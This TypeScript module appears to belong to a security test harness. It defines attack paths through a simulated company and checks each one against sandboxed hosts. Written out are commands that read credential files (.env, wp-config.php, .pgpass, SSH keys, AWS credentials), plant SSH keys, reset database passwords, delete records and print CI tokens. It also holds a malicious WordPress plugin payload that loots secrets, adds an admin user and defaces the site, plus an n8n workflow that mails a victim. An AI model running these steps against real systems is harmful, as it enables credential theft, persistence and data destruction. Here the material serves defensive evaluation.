/**
 * Every path of the reference company: what it leads to, which systems it crosses, how far it is, what it stands for, how
 * it is walked, and what was planted for it.
 *
 * @module
 */
import assert from "node:assert/strict";
import { Attacker, type Shell } from "./attacker.ts";
import type { Company, TASKS } from "./company.ts";
import { PASSWORD } from "./machines.ts";

export interface Walk {
  readonly company: Company;
  readonly attacker: Attacker;
  /** As deploy on web1, by whatever the task grants. */
  readonly deploy: Shell;
}

export interface Path {
  readonly task: keyof typeof TASKS;
  readonly outcome: string;
  /** The end of the object's name: ports are the system's choice. */
  readonly object: string;
  readonly systems: readonly string[];
  readonly persons: number;
  readonly steps: number;
  /** The incident or the source that it stands for. */
  readonly stands: string;
  /** Walks it to the effect, and fails where that does not come. */
  readonly walk: (walk: Walk) => Promise<void>;
}

/** By CI it has as many steps: a push that is run, in place of a command. */
type Goal = Omit<Path, "task" | "systems" | "persons"> & { readonly beyond: readonly string[] };

const B5 = "incidents B5: a credential in an unrelated file, and production is deleted";
const C10 = "incidents D22: n8n with a node that sends; a workflow to mail";
const D22 = "incidents D22, C15: a plugin of WordPress to a shell";

/** One row is gone of a table that holds many. */
async function lessBy(count: () => string, attack: () => Promise<unknown>): Promise<void> {
  const before = Number(count());
  assert.ok(before > 0);
  const told = await attack();
  assert.ok(Number(count()) < before, `nothing is gone: ${String(told)}`);
}

const pgCount =
  ({ company }: Walk, table: string, database = "shop") =>
  () =>
    company.db.run(
      `cd /; runuser -u postgres -- psql -Atc 'select count(*) from ${table}' ${database}`,
    );
const myCount =
  ({ company }: Walk, table: string) =>
  () =>
    company.web.run(
      `mariadb --no-defaults -S /run/mysqld/sock -N -B -e 'select count(*) from ${table}'`,
    );

const deletesAsOwner = (table: string) => (walk: Walk) =>
  lessBy(pgCount(walk, table), () =>
    Attacker.asOwner(walk.deploy)(`delete from ${table} where id = (select min(id) from ${table})`),
  );
const deletesInCrm = (table: string) => (walk: Walk) =>
  lessBy(myCount(walk, `crm.${table}`), () =>
    Attacker.inMariadb(
      walk.deploy,
      "/srv/crm/.env",
      "crm",
    )(`delete from crm.${table} order by id limit 1`),
  );
const prints = (step: (walk: Walk) => Promise<string>, pattern: RegExp) => async (walk: Walk) => {
  assert.match(await step(walk), pattern);
};

/** Adds a key of one's own to `file` of `user`, and logs in with it. */
const addsKey = (shell: (walk: Walk) => Shell, user: string) =>
  prints(
    (walk) =>
      shell(walk)(
        `[ -d /home/${user}/.ssh ] || mkdir -m 700 /home/${user}/.ssh
d=$(mktemp -d); ssh-keygen -q -t ed25519 -N '' -f $d/k; cat $d/k.pub >>/home/${user}/.ssh/authorized_keys
ssh -o StrictHostKeyChecking=no -o IdentitiesOnly=yes -i $d/k ${user}@127.0.0.1 'echo I am $(id -un)' 2>/dev/null`,
      ),
    new RegExp(`^I am ${user}$`, "m"),
  );
const self = ({ deploy }: Walk) => deploy;
const keeper = ({ deploy }: Walk) => Attacker.asKeeper(deploy);

/** What follows from being deploy on web1. */
const FROM_DEPLOY: readonly Goal[] = [
  {
    ...{ outcome: "hosts_executable", object: "web1", beyond: [], steps: 2, stands: "T1059" },
    walk: prints(({ deploy }) => deploy("id -un; hostname"), /deploy\nweb1/),
  },
  {
    ...{
      outcome: "hosts_executable",
      object: "db1",
      beyond: ["db1"],
      steps: 6,
      stands: "T1021.004, SSH",
    },
    walk: prints((walk) => keeper(walk)("id -un; hostname"), /keeper\ndb1/),
  },
  {
    ...{
      outcome: "secrets_readable",
      object: "DB_PASSWORD in web1:/srv/crm/.env",
      beyond: [],
      steps: 4,
      stands: "T1552.001",
    },
    walk: prints(({ deploy }) => deploy("cat /srv/crm/.env"), new RegExp(PASSWORD.crm)),
  },
  {
    ...{
      outcome: "secrets_readable",
      object: "DB_PASSWORD in web1:/srv/www/wp-config.php",
      beyond: [],
      steps: 4,
      stands: "T1552.001",
    },
    walk: prints(({ deploy }) => deploy("cat /srv/www/wp-config.php"), new RegExp(PASSWORD.wp)),
  },
  {
    ...{
      outcome: "secrets_readable",
      object: "password in web1:/home/deploy/.pgpass",
      beyond: [],
      steps: 4,
      stands: B5,
    },
    walk: prints(({ deploy }) => deploy("cat ~/.pgpass"), new RegExp(PASSWORD.agent)),
  },
  {
    ...{
      outcome: "secrets_readable",
      object: "key in web1:/home/deploy/.ssh/id_ed25519",
      beyond: [],
      steps: 4,
      stands: "T1552.004",
    },
    walk: prints(({ deploy }) => deploy("cat ~/.ssh/id_ed25519"), /BEGIN OPENSSH PRIVATE KEY/),
  },
  {
    ...{
      outcome: "secrets_readable",
      object: "default in web1:/home/plain/.aws/credentials",
      beyond: ["sudo"],
      steps: 5,
      stands: "GTFOBins, find",
    },
    walk: async (walk) => {
      const look = "cat /home/plain/.aws/credentials";
      assert.doesNotMatch(await walk.deploy(`${look} 2>/dev/null; true`), /secret_access/);
      assert.match(await Attacker.asRoot(walk.deploy)(look), /aws_secret_access_key = /);
    },
  },
  {
    ...{
      outcome: "credentials_mintable",
      object: "web1:/home/deploy/.ssh/authorized_keys",
      beyond: [],
      steps: 3,
      stands: "T1098.004",
    },
    walk: addsKey(self, "deploy"),
  },
  {
    ...{
      outcome: "credentials_mintable",
      object: "web1:/home/other/.ssh/authorized_keys",
      beyond: [],
      steps: 3,
      stands: "T1098.004",
    },
    walk: addsKey(self, "other"),
  },
  {
    ...{
      outcome: "credentials_mintable",
      object: "db1:/home/keeper/.ssh/authorized_keys",
      beyond: ["db1"],
      steps: 6,
      stands: "T1098.004",
    },
    walk: addsKey(keeper, "keeper"),
  },
  {
    ...{
      outcome: "credentials_mintable",
      object: "postgres:pg@pg.example:5432",
      beyond: ["PostgreSQL"],
      steps: 6,
      stands: "T1098.001",
    },
    walk: prints(
      (walk) => Attacker.asAgent(walk.deploy)(`alter role agent password '${PASSWORD.agent}'`),
      /ALTER ROLE/,
    ),
  },
  {
    ...{
      outcome: "credentials_mintable",
      object: "mysql:crm@crm.example:3306",
      beyond: ["MariaDB"],
      steps: 6,
      stands: "T1098.001",
    },
    walk: async (walk) => {
      const sql = Attacker.inMariadb(walk.deploy, "/srv/crm/.env", "crm");
      const told = await sql(`set password = password('${PASSWORD.crm}'); select 'it is set'`);
      assert.match(told, /^it is set$/m);
    },
  },
  {
    ...{
      outcome: "customer_records",
      object: "/shop public.customers",
      beyond: [".pgpass", "PostgreSQL"],
      steps: 6,
      stands: B5,
    },
    walk: prints(
      (walk) => Attacker.asAgent(walk.deploy)("select email from customers"),
      /person120@/,
    ),
  },
  {
    ...{
      outcome: "customer_records",
      object: "/postgres",
      beyond: [".pgpass", "PostgreSQL"],
      steps: 7,
      stands: B5,
    },
    walk: prints(
      ({ deploy }) =>
        deploy(
          "PGPASSWORD=$(cut -d: -f5 ~/.pgpass) psql -X -At -h 10.9.0.20 -U agent -c 'select count(*) from visitors' postgres",
        ),
      /^[78]$/m,
    ),
  },
  {
    ...{
      outcome: "customer_records",
      object: "/shop public.people",
      beyond: ["db1", "PostgreSQL"],
      steps: 9,
      stands: "sudoers(5): psql as postgres",
    },
    walk: prints((walk) => Attacker.asOwner(walk.deploy)("select email from people"), /staff12@/),
  },
  {
    ...{
      outcome: "customer_records",
      object: "/crm leads",
      beyond: [".env", "MariaDB"],
      steps: 5,
      stands: "T1552.001",
    },
    walk: prints(
      (walk) =>
        Attacker.inMariadb(walk.deploy, "/srv/crm/.env", "crm")("select email from crm.leads"),
      /lead25@/,
    ),
  },
  {
    ...{
      outcome: "customer_records",
      object: "whatever mysql:wordpress@web1:3306 may",
      beyond: ["wp-config.php", "MariaDB"],
      steps: 5,
      stands: "DB_PASSWORD in wp-config.php",
    },
    walk: prints(
      (walk) =>
        Attacker.inMariadb(
          walk.deploy,
          "/srv/www/wp-config.php",
          "wordpress",
        )("select user_email from wordpress.wp_users"),
      /admin@site\.example/,
    ),
  },
  {
    ...{
      outcome: "data_destroyable",
      object: "/shop public.ledger",
      beyond: [".pgpass", "PostgreSQL"],
      steps: 6,
      stands: B5,
    },
    walk: (walk) =>
      lessBy(pgCount(walk, "ledger"), () =>
        Attacker.asAgent(walk.deploy)("delete from ledger where id = (select min(id) from ledger)"),
      ),
  },
  ...["customers", "orders", "people"].map((table): Goal => ({
    ...{
      outcome: "data_destroyable",
      object: `/shop public.${table}`,
      beyond: ["db1", "PostgreSQL"],
      steps: 9,
      stands: "sudoers(5): psql as postgres",
    },
    walk: deletesAsOwner(table),
  })),
  {
    ...{
      outcome: "data_destroyable",
      object: "/postgres",
      beyond: ["db1", "PostgreSQL"],
      steps: 9,
      stands: "DROP DATABASE; incidents B1",
    },
    walk: (walk) =>
      lessBy(pgCount(walk, "visitors", "postgres"), () =>
        Attacker.asKeeper(walk.deploy)(
          "cd /; sudo -n -u postgres psql -X -Atc 'delete from visitors where id = (select min(id) from visitors)' postgres",
        ),
      ),
  },
  ...["leads", "tickets"].map((table): Goal => ({
    ...{
      outcome: "data_destroyable",
      object: `/crm ${table}`,
      beyond: [".env", "MariaDB"],
      steps: 5,
      stands: "T1485",
    },
    walk: deletesInCrm(table),
  })),
  {
    ...{
      outcome: "data_destroyable",
      object: "whatever mysql:wordpress@web1:3306 may",
      beyond: ["wp-config.php", "MariaDB"],
      steps: 5,
      stands: "DB_PASSWORD in wp-config.php",
    },
    walk: (walk) =>
      lessBy(myCount(walk, "wordpress.wp_options"), () =>
        Attacker.inMariadb(
          walk.deploy,
          "/srv/www/wp-config.php",
          "wordpress",
        )("delete from wordpress.wp_options order by option_id desc limit 1"),
      ),
  },
];

/** By CI it is the same, from one system further away. */
const SHARED = (["ops", "dev"] as const).flatMap((task) =>
  FROM_DEPLOY.map(({ beyond, ...goal }): Path => ({
    ...goal,
    task,
    systems: [...(task === "ops" ? [] : ["GitHub", "CI"]), "web1", ...beyond],
    persons: 0,
  })),
);

const burns = prints(
  ({ attacker }) => attacker.inside("i=0; while [ $i -lt 50000 ]; do i=$((i+1)); done; times"),
  /0m0\.[0-9]*[1-9]/,
);

/** The plugin does all of it at once; a walk each would ask a person nine times. */
const PHP = `
global $wpdb;
file_put_contents('/tmp/loot', shell_exec('id -un; hostname') . DB_PASSWORD . "\\n" . AUTH_KEY . "\\n"
  . $wpdb->get_var("select user_email from $wpdb->users") . "\\n" . $wpdb->get_var("select comment_author from $wpdb->comments"));
wp_insert_post(['post_title' => 'We are hacked', 'post_status' => 'publish']);
wp_insert_user(['user_login' => 'mallory', 'user_pass' => 'x', 'role' => 'administrator']);
wp_mail('victim@client.example', 'Hello', 'from the shop');
foreach (['comments' => 'comment_ID', 'usermeta' => 'umeta_id', 'users' => 'ID', 'posts' => 'ID'] as $table => $id)
  $wpdb->query("delete from {$wpdb->$table} order by $id limit 1");`;

const looted = (pattern: RegExp) => async (walk: Walk) => assert.match(await loot(walk), pattern);
const gone = (table: string, id: string) => async (walk: Walk) => {
  await loot(walk);
  assert.equal(myCount(walk, `wordpress.wp_${table} where ${id} = 1`)().trim(), "0");
};
let looting: Promise<string> | undefined;
function loot({ attacker, company }: Walk): Promise<string> {
  looting ??= attacker.plugin(PHP).then(() => company.web.run("cat /tmp/loot"));
  return looting;
}

const there = (what: string) => async (walk: Walk) => {
  await loot(walk);
  assert.notEqual(myCount(walk, what)().trim(), "0");
};

const BLOG = (
  [
    ["hosts_executable", "the machine of blog.example:80", 3, looted(/^www-data\nweb1$/m)],
    ["hosts_executable", "web1", 3, looted(/^www-data\nweb1$/m)],
    [
      "secrets_readable",
      "DB_PASSWORD in blog.example:80 wp-config.php",
      5,
      looted(new RegExp(PASSWORD.wp)),
    ],
    [
      "secrets_readable",
      "keys and salts in blog.example:80 wp-config.php",
      5,
      looted(/^AUTH of a test$/m),
    ],
    ["customer_records", "blog.example:80 users", 5, looted(/admin@site\.example/)],
    ["customer_records", "blog.example:80 comments", 5, looted(/A WordPress Commenter/)],
    [
      "publications",
      "blog.example:80 code",
      5,
      there('wordpress.wp_posts where post_title = "We are hacked" and post_status = "publish"'),
    ],
    [
      "credentials_mintable",
      "blog.example:80 code",
      5,
      there('wordpress.wp_users where user_login = "mallory"'),
    ],
    ["data_destroyable", "blog.example:80 users", 5, gone("users", "ID")],
    ["data_destroyable", "blog.example:80 comments", 5, gone("comments", "comment_ID")],
    ["data_destroyable", "blog.example:80 entries", 5, gone("posts", "ID")],
    [
      "people_mailable",
      "blog.example:80 mail",
      5,
      async (walk: Walk) => {
        await loot(walk);
        assert.match(walk.company.web.run("cat /tmp/mails"), /victim@client\.example/);
      },
    ],
  ] as const
).map(([outcome, object, steps, walk]): Path => ({
  ...{
    task: "blog",
    outcome,
    object,
    systems: ["WordPress", "web1"],
    persons: 1,
    steps,
    stands: D22,
    walk,
  },
}));

export const PATHS: readonly Path[] = [
  ...SHARED,
  ...BLOG,
  {
    ...{
      task: "ops",
      outcome: "data_destroyable",
      object: "/shop public.archive",
      systems: ["PostgreSQL"],
      persons: 0,
      steps: 3,
    },
    stands: "https://www.postgresql.org/docs/current/sql-createfunction.html: SECURITY DEFINER",
    walk: (walk) =>
      lessBy(pgCount(walk, "archive"), () =>
        walk.attacker.inside("psql -h pg.example -U any -Atc 'select public.tidy()' shop"),
      ),
  },
  {
    ...{
      task: "dev",
      outcome: "data_destroyable",
      object: "/shop public.archive",
      systems: ["GitHub", "CI", "web1", "PostgreSQL"],
    },
    ...{ persons: 0, steps: 7, stands: B5 },
    walk: async (walk) => {
      walk.company.db.run(
        "cd /; runuser -u postgres -- psql -qc 'insert into archive values (1)' shop",
      );
      await lessBy(pgCount(walk, "archive"), () => Attacker.asAgent(walk.deploy)("select tidy()"));
    },
  },
  ...(["DEPLOY_KEY", "GITHUB_TOKEN"] as const).map((name): Path => ({
    ...{
      task: "dev",
      outcome: "secrets_readable",
      object: `${name} of api.github.com:80 acme/site`,
      systems: ["GitHub", "CI"],
    },
    ...{ persons: 0, steps: 3, stands: "incidents C1: a token of CI" },
    walk: async ({ attacker, company }) => {
      await attacker.push(`printf %s "$${name}"`);
      assert.match(company.ciLog(), name === "DEPLOY_KEY" ? /BEGIN OPENSSH/ : /ghs_of-a-test/);
    },
  })),
  {
    ...{
      task: "dev",
      outcome: "publications",
      object: "github, grants[0].allow[0]",
      systems: ["GitHub"],
      persons: 0,
      steps: 2,
    },
    stands: "incidents A3: a push to a real project",
    walk: async ({ attacker, company }) => {
      const before = company.pushes();
      await attacker.push("true");
      assert.equal(company.pushes(), before + 1);
    },
  },
  {
    ...{
      task: "flows",
      outcome: "people_mailable",
      object: "company mail (smtp) reaches",
      systems: ["n8n", "mail"],
      persons: 0,
      steps: 6,
    },
    stands: C10,
    walk: async ({ attacker, company }) => {
      const nodes = [
        { type: "n8n-nodes-base.webhook", parameters: { path: "go" } },
        {
          type: "n8n-nodes-base.emailSend",
          parameters: { toEmail: "victim@client.example", text: "pay me" },
        },
      ];
      const post = "curl -sS -X POST -H 'content-type: application/json' http://n8n.example";
      await attacker.inside(`${post}/api/v1/workflows -d '${JSON.stringify({ name: "x", nodes, connections: {}, settings: {} })}'
${post}/api/v1/workflows/1/activate -d '{}'; ${post}/webhook/go -d '{}'`);
      const [message] = company.mail.messages();
      assert.deepEqual(message?.recipients, ["victim@client.example"]);
      assert.match(message.text, /pay me/);
    },
  },
  ...(["ops", "blog", "flows", "dev"] as const).map((task): Path => ({
    ...{
      task,
      outcome: "compute_usable",
      object: "processor hours",
      systems: ["sandbox"],
      persons: 0,
      steps: 1,
    },
    ...{ stands: "incidents A9: computing power used otherwise", walk: burns },
  })),
];

/** What is reported and not walked, each with the assumption that it rests on: the part is a double, or not here. */
export const NOT_WALKED: readonly (readonly [object: RegExp, assumption: RegExp])[] = [
  [/^the machine of n8n/, /n8n does not tell of its machine/],
  [/^N8N_ENCRYPTION_KEY/, /n8n does not tell of its machine/],
];
